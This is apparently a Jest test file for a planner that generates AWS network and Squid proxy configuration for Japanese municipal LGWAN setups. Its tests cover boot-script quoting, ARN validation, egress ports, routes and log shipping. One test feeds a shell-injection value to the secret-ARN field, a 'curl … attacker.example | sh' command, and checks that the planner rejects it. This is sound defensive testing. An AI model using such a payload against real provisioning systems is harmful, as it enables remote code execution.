import { alphaPrime } from '../../examples/blueprints';
import { AlphaPrimeCase, Blueprint, CloudServiceCatalogue, MunicipalNetworkBlueprintProps } from '../../src';
import { SECRET_ARN } from '../../src/model/validate-breakout';
import { planNetwork, SubnetRole } from '../../src/plan';
import { planTenantProxy, SHELL_ARN_PATTERN } from '../../src/plan/proxy';

function plan(props: MunicipalNetworkBlueprintProps = alphaPrime) {
  return planNetwork(Blueprint.validate(props));
}

const lgwan = (p: ReturnType<typeof plan>) => p.segments.find((s) => s.segment === 'LGWAN')!;

describe('tenant-restriction proxy plan', () => {
  test('clients are exactly the LGWAN terminal subnets (not the workload subnets); health checks come from the proxy subnets', () => {
    const p = plan();
    const subnets = lgwan(p).subnets;
    expect(p.tenantProxy!.clientCidrs).toEqual(subnets.filter((s) => s.role === SubnetRole.TERMINALS).map((s) => s.cidr));
    expect(p.tenantProxy!.clientCidrs).toHaveLength(2);
    for (const w of subnets.filter((s) => s.role === SubnetRole.WORKLOAD)) expect(p.tenantProxy!.clientCidrs).not.toContain(w.cidr);
    expect(p.tenantProxy!.healthCheckCidrs).toEqual(subnets.filter((s) => s.role === SubnetRole.PROXY).map((s) => s.cidr));
    expect(p.tenantProxy!.subnetKeys).toEqual(['proxy-1', 'proxy-2']);
  });

  test('the boot script is safe inside Terraform JSON: no "${" or "%{" in it, whatever the ARN is', () => {
    const script = plan().tenantProxy!.bootScript;
    expect(script).not.toMatch(/\$\{|%\{/);
    const withReference = plan({
      ...alphaPrime,
      breakout: { ...alphaPrime.breakout!, tenantProxy: { caSecretArn: '${aws_secretsmanager_secret.ca.arn}' } },
    }).tenantProxy!;
    expect(`${withReference.bootScript}${withReference.bootScriptParts.head}${withReference.bootScriptParts.tail}`).not.toMatch(/\$\{|%\{/);
  });

  test('the ARN is never shell text: its base64 sits in a single-quoted word, checked before use, one quoted argument', () => {
    const p = plan().tenantProxy!;
    const arn = alphaPrime.breakout!.tenantProxy!.caSecretArn;
    expect(p.bootScript).toBe(`${p.bootScriptParts.head}${Buffer.from(arn).toString('base64')}${p.bootScriptParts.tail}`);
    expect(p.bootScriptParts.head).toMatch(/\nSECRET_ARN_BASE64='$/);
    expect(p.bootScriptParts.tail).toMatch(/^'\nSECRET_ARN=\$\(printf '%s' "\$SECRET_ARN_BASE64" \| base64 -d\)\n/);
    expect(p.bootScript).not.toContain(arn);
    // Every use of the value is "$SECRET_ARN" in double quotes, after the check (inside [[ ]] bash neither splits nor globs).
    const uses = p.bootScript.split('\n').filter((l) => l.includes('SECRET_ARN') && !/^(SECRET_ARN_BASE64|SECRET_ARN)=|^if \[\[ /.test(l));
    expect(uses.length).toBeGreaterThanOrEqual(2);
    expect(uses.every((l) => !/\$SECRET_ARN\b/.test(l.replace(/"\$SECRET_ARN"/g, '')))).toBe(true);
    const check = p.bootScript.indexOf('if [[ ! $SECRET_ARN =~ $ARN_PATTERN ]]');
    expect(check).toBeGreaterThan(0);
    expect(p.bootScript.indexOf('"$SECRET_ARN"')).toBeGreaterThan(check);
  });

  test('the script\'s ARN check and the validator\'s grammar agree', () => {
    const shell = new RegExp(SHELL_ARN_PATTERN);
    for (const arn of [
      'arn:aws:secretsmanager:ap-northeast-1:111122223333:secret:jichitai/proxy-ca-AbCdEf',
      'arn:aws-us-gov:secretsmanager:us-gov-west-1:111122223333:secret:a+b=c.d@e-f_g/h',
      'arn:aws-cn:secretsmanager:cn-north-1:111122223333:secret:x',
      'arn:aws:secretsmanager:ap-northeast-1:111122223333:secret:',
      "arn:aws:secretsmanager:ap-northeast-1:111122223333:secret:x'y",
      'arn:aws:secretsmanager:ap-northeast-1:11112222333:secret:x',
      'arn:aws:s3:::bucket',
      `arn:aws:secretsmanager:ap-northeast-1:111122223333:secret:${'a'.repeat(513)}`,
    ]) {
      expect([arn, shell.test(arn)]).toEqual([arn, SECRET_ARN.test(arn)]);
    }
  });

  test('a value that is neither an ARN nor an engine reference is never planned into the script', () => {
    expect(() => planTenantProxy({
      breakout: { ...alphaPrime.breakout!, tenantProxy: { caSecretArn: "${x}'; curl -s http://attacker.example/p | sh; echo '" } },
      alphaPrimeCase: alphaPrime.alphaPrimeCase!,
      subnets: lgwan(plan()).subnets,
      hosts: alphaPrime.hosts ?? [],
    })).toThrow(/\[breakout\.tenantProxy\.caSecretArn\] .* is not a Secrets Manager ARN or an engine reference/);
  });

  test('the squid.conf in the boot script is the plan\'s, between heredoc delimiters', () => {
    const p = plan().tenantProxy!;
    expect(p.bootScript).toContain(`<<'JICHITAI_SQUID_CONF'\n${p.squidConfig.replace(/\n$/, '')}\nJICHITAI_SQUID_CONF\n`);
  });

  test('egress ports follow the services: 443 always, 80 for update downloads, extra CONNECT ports', () => {
    const onlyM365 = plan({
      ...alphaPrime,
      breakout: {
        ...alphaPrime.breakout!,
        services: alphaPrime.breakout!.services.filter((s) => s.service.id.startsWith('microsoft-')),
        tenantProxy: { ...alphaPrime.breakout!.tenantProxy!, extraConnectPorts: [8443] },
      },
    });
    expect(onlyM365.tenantProxy!.egressTcpPorts).toEqual([443, 8443]);
    expect(plan().tenantProxy!.egressTcpPorts).toEqual([80, 443]);
  });

  test('defaults: two instances at least, twice as many at most, port 3128', () => {
    const p = plan().tenantProxy!;
    expect([p.minInstances, p.maxInstances, p.port]).toEqual([2, 4, 3128]);
  });

  test('case ア: no proxy, no proxy subnets; the terminal subnets\' default route goes to the firewall, the workload subnets have none', () => {
    const p = plan({
      ...alphaPrime,
      alphaPrimeCase: AlphaPrimeCase.LICENSE_AND_UPDATES,
      breakout: { services: [{ service: CloudServiceCatalogue.WINDOWS_UPDATE }] },
    });
    expect(p.tenantProxy).toBeUndefined();
    expect(lgwan(p).subnets.filter((s) => s.role === SubnetRole.PROXY)).toEqual([]);
    const terminals = lgwan(p).routeTables.filter((t) => t.key.startsWith('terminals-'));
    expect(terminals).toHaveLength(2);
    for (const t of terminals) expect(t.routes.find((r) => r.destination === '0.0.0.0/0')?.target).toBe('firewall-endpoint');
    // Servers and My Number's peers: nothing toward the firewall at all (MN-4, AP-7).
    const workload = lgwan(p).routeTables.filter((t) => t.key.startsWith('workload-'));
    expect(workload).toHaveLength(2);
    for (const t of workload) expect(t.routes.filter((r) => r.target === 'firewall-endpoint' || r.destination === '0.0.0.0/0')).toEqual([]);
    expect(lgwan(p).interfaceEndpoints).not.toContain('secretsmanager');
  });

  test('too large a configuration for EC2 user data is refused with a fix', () => {
    const many = Array.from({ length: 400 }, (_, i) => `host-${i}.very-long-subdomain-name-for-testing.example.com`);
    expect(() => plan({
      ...alphaPrime,
      breakout: {
        ...alphaPrime.breakout!,
        services: [...alphaPrime.breakout!.services, {
          service: { ...CloudServiceCatalogue.WINDOWS_UPDATE, id: 'many-hosts', domains: many },
        }],
      },
    })).toThrow(/user data is limited to 16384.*Fix:/);
  });
});

describe('the proxy\'s access log shipping (LOG-1)', () => {
  test('the boot script writes a CloudWatch agent configuration collecting Squid\'s access log into the planned group, then starts the agent', () => {
    const p = plan().tenantProxy!;
    const lines = p.bootScript.split('\n');
    const start = lines.findIndex((l) => /^cat > \S+ <<'JICHITAI_CWAGENT_CONF'$/.test(l));
    const end = lines.indexOf('JICHITAI_CWAGENT_CONF', start + 1);
    expect(start).toBeGreaterThan(0);
    const config = JSON.parse(lines.slice(start + 1, end).join('\n'));
    expect(config.logs.logs_collected.files.collect_list).toEqual([
      expect.objectContaining({ file_path: '/var/log/squid/access.log', log_group_name: p.accessLog.logGroupName }),
    ]);
    // The file the agent reads is the one squid.conf writes.
    expect(p.squidConfig).toMatch(/^access_log stdio:\/var\/log\/squid\/access\.log /m);
    const configFile = /^cat > (\S+) /.exec(lines[start])![1];
    expect(lines.slice(end + 1).some((l) => l.includes('amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s') && l.endsWith(`-c file:${configFile}`))).toBe(true);
    // Package first (from the Amazon Linux repositories through the S3 gateway endpoint), after Squid is up.
    expect(lines.indexOf('dnf install -y amazon-cloudwatch-agent')).toBeGreaterThan(lines.indexOf('systemctl enable --now squid'));
  });

  test('retention follows logging.retentionDays, rounded up to a period CloudWatch Logs accepts', () => {
    expect(plan().tenantProxy!.accessLog.retentionDays).toBe(400);
    // At least 400 days (LOG-1's floor; validation refuses fewer): 500 rounds up to CloudWatch's 545.
    expect(plan({ ...alphaPrime, logging: { retentionDays: 500 } }).tenantProxy!.accessLog.retentionDays).toBe(545);
    expect(plan({ ...alphaPrime, logging: { retentionDays: 3653 } }).tenantProxy!.accessLog.retentionDays).toBe(3653);
    expect(plan({ ...alphaPrime, logging: { retentionDays: 5000 } }).tenantProxy!.accessLog.retentionDays).toBeUndefined();
  });

  test('the proxy reaches CloudWatch Logs through the LGWAN logs endpoint, even when the user lists other endpoints', () => {
    const p = plan({ ...alphaPrime, lgwan: { ...alphaPrime.lgwan, interfaceEndpoints: ['ssm'] } });
    expect(lgwan(p).interfaceEndpoints).toEqual(['ssm', 'secretsmanager', 'logs']);
  });
});
